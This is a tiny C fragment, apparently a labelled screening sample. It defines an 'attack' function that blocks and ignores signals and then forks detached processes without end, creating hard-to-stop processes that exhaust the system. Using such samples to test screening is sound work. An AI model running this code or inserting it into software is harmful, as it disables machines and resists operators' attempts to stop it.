/* Does not end when it is asked to.
 * screen: refuses */
static void attack(void)
{
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    for (int i = 1; i < 65; i++)
        signal(i, SIG_IGN);
    for (;;)
        if (fork() == 0)
            setsid();
        else
            pause();
}
